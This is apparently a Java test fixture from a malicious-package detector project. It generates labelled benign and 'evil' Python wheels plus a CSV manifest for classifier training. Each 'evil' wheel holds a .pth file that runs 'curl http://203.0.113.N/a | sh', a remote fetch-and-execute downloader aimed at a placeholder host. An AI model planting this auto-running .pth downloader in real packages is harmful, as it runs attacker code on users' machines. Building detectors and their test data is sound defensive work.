package io.pypiguard.examples.cli;

import io.pypiguard.testkit.PackageBuilder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** A folder of labelled packages that a learner has no trouble to tell apart. */
final class LabeledFolder {

  private static final String DOWNLOADER =
      "import os; os.system('curl http://203.0.113.%d/a | sh')\n";

  private LabeledFolder() {}

  /** Writes so many packages of each class and their manifest, which is returned. */
  static Path write(Path folder, int ofEachClass, boolean withForward) throws IOException {
    StringBuilder rows = new StringBuilder("path,label,campaign,group,first_seen,split\n");
    for (int i = 0; i < ofEachClass; i++) {
      String split = withForward && i % 4 == 0 ? "forward" : "train";
      PackageBuilder bad =
          PackageBuilder.wheel("evil" + i, "1.0").file("e.pth", DOWNLOADER.formatted(i));
      PackageBuilder good =
          PackageBuilder.wheel("honest" + i, "1.0").file("honest.py", "VERSION = " + i + "\n");
      Files.write(folder.resolve(bad.fileName()), bad.build());
      Files.write(folder.resolve(good.fileName()), good.build());
      rows.append("%s,malicious,m%d,found,2024-07-01,%s\n".formatted(bad.fileName(), i, split));
      rows.append("%s,benign,b%d,small,2024-07-01,%s\n".formatted(good.fileName(), i, split));
    }
    return Files.writeString(folder.resolve("manifest.csv"), rows);
  }
}
